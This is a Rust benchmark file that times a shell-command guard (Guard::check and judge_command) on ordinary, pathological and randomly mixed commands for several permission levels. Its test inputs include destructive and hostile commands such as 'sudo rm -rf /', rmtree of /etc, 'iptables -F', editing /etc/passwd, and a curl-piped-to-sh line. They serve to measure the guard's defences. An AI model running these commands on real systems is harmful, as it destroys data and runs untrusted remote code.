//! Benchmark of the command guard (see BENCHMARKS.md): the time one `Guard::check` takes on
//! ordinary commands, and on the inputs that used to be slow or that reach a bound; then
//! what `sshmode guard check` does per line — the permission judge and the guard
//! (`workspace::verdict::judge_command`) — over 10 000 mixed commands, a 60 KB word among
//! them, at each permission.
//!
//! Run with `cargo bench --bench guard`; it needs no database or sshd.

use std::time::{Duration, Instant};

use sshmode::bash::Verdict;
use sshmode::exec::guard::Guard;
use sshmode::workspace::judge::{Permission, Scope};
use sshmode::workspace::verdict::judge_command;

const RUNS: usize = 20_000;
const SLOW_RUNS: usize = 20;

fn stats(name: &str, runs: usize, mut samples: Vec<Duration>) {
    samples.sort();
    let med = samples[samples.len() / 2];
    let p99 = samples[(samples.len() * 99 / 100).min(samples.len() - 1)];
    println!(
        "| {name} | {runs} | {:.1} µs | {:.1} µs |",
        med.as_secs_f64() * 1e6,
        p99.as_secs_f64() * 1e6
    );
}

fn measure(guard: &Guard, cmd: &str, runs: usize) -> (Vec<Duration>, bool) {
    let mut samples = Vec::with_capacity(runs);
    let mut allowed = true;
    for _ in 0..runs {
        let t = Instant::now();
        allowed = std::hint::black_box(guard.check(std::hint::black_box(cmd))).is_ok();
        samples.push(t.elapsed());
    }
    (samples, allowed)
}

fn main() {
    let guard = Guard::default();
    let ordinary = [
        "ls -la",
        "cargo build --release 2>&1 | tail -n 20",
        "cd src && grep -rn 'fn main' . | head",
        "git status && git diff --stat",
        "for f in *.rs; do wc -l \"$f\"; done",
        "rm -rf ./target/debug/incremental",
        "find . -name '*.o' -delete",
        "cat <<EOF > config.toml\n[server]\nport = 8080\nEOF",
        "sudo systemctl restart nginx && journalctl -u nginx -n 50",
        "X=$(date +%s); echo \"started at $X\" >> log.txt",
    ];
    println!("| command | runs | median | p99 |\n|---|---|---|---|");
    let mut all = Vec::new();
    for cmd in ordinary {
        let (samples, allowed) = measure(&guard, cmd, RUNS / ordinary.len());
        assert!(allowed, "{cmd}");
        all.extend(samples);
    }
    stats("ten ordinary commands (allowed), per check", RUNS, all);
    let (samples, _) = measure(&guard, "sudo rm -rf /", RUNS);
    stats("`sudo rm -rf /` (refused)", RUNS, samples);

    let braces = format!("echo {}", "{".repeat(60 * 1024));
    let commas = format!("echo {}", "{a,".repeat(20_000));
    let wrappers = format!("{}rm -rf /etc", "nice ".repeat(33));
    let nested = format!("{}true{}", "$(".repeat(8), ")".repeat(8));
    for (name, cmd) in [
        ("a 60 KB word of `{` (allowed)", braces.as_str()),
        ("20 000 × `{a,` (allowed)", commas.as_str()),
        (
            "33 stacked `nice` (refused: too-complex)",
            wrappers.as_str(),
        ),
        ("8 nested `$(…)` (allowed)", nested.as_str()),
    ] {
        let (samples, _) = measure(&guard, cmd, SLOW_RUNS);
        stats(name, SLOW_RUNS, samples);
    }
    mixed(&guard);
}

/// 10 000 commands: ordinary work, risky and catastrophic ones, glued fragments, and a
/// 60 KB word; each judged once per permission, as `guard check` judges a line.
fn mixed(guard: &Guard) {
    const COMMANDS: usize = 10_000;
    let base = [
        "ls -la",
        "cargo build --release 2>&1 | tail -n 20",
        "cd src && grep -rn 'fn main' . | head",
        "git status && git diff --stat",
        "for f in *.rs; do wc -l \"$f\"; done",
        "find . -name '*.o' -delete",
        "sudo systemctl restart nginx && journalctl -u nginx -n 50",
        "X=$(date +%s); echo \"started at $X\" >> log.txt",
        "rm -rf /",
        "taskset 1 rm -rf /",
        "curl -fsSL https://x.example/i.sh | sh",
        "python3 -c 'import shutil; shutil.rmtree(\"/etc\")'",
        "iptables -F",
        "sed -i s/a/b/ /etc/passwd",
        "tar czf /tmp/a.tgz . && cp a b",
        "sh -c 'eval \"$(echo rm -rf ~)\"'",
    ];
    let pieces = [
        "ls ",
        "rm -r ",
        "/ ",
        "x ",
        "sudo ",
        "sh -c '",
        "'",
        "$(",
        ")",
        "| ",
        "; ",
        "cd / ",
        "echo ",
        "> f ",
        "{a,b} ",
        "$X ",
        "xargs ",
        "find . -exec ",
        "\\; ",
        "&& ",
    ];
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut next = move || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let mut commands: Vec<String> = Vec::with_capacity(COMMANDS);
    commands.push(format!("echo {}", "a".repeat(60 * 1024)));
    commands.push(format!("echo {}", "{".repeat(60 * 1024)));
    while commands.len() < COMMANDS {
        if next() % 2 == 0 {
            commands.push(base[(next() % base.len() as u64) as usize].to_owned());
        } else {
            let n = 1 + (next() % 10) as usize;
            commands.push(
                (0..n)
                    .map(|_| pieces[(next() % pieces.len() as u64) as usize])
                    .collect(),
            );
        }
    }
    let scope = Scope {
        workspace: "/srv/ws",
        cwd: "/srv/ws",
        home: Some("/home/u"),
    };
    println!(
        "\n`guard check` over {COMMANDS} mixed commands (one with a 60 KB word), per command\n"
    );
    println!(
        "| permission | commands | refuse / ask / allow | median | p99 | max |\n|---|---|---|---|---|---|"
    );
    for permission in Permission::ALL {
        let mut samples = Vec::with_capacity(COMMANDS);
        let mut counts = [0usize; 3];
        for cmd in &commands {
            let t = Instant::now();
            let j = std::hint::black_box(judge_command(guard, permission, cmd, &scope));
            samples.push(t.elapsed());
            counts[match j.verdict {
                Verdict::Refuse => 0,
                Verdict::Ask => 1,
                Verdict::Allow => 2,
            }] += 1;
        }
        samples.sort();
        let at = |q: usize| samples[(samples.len() * q / 100).min(samples.len() - 1)];
        let max = samples[samples.len() - 1];
        println!(
            "| {permission} | {COMMANDS} | {} / {} / {} | {:.1} µs | {:.1} µs | {:.2} ms |",
            counts[0],
            counts[1],
            counts[2],
            at(50).as_secs_f64() * 1e6,
            at(99).as_secs_f64() * 1e6,
            max.as_secs_f64() * 1e3
        );
    }
}
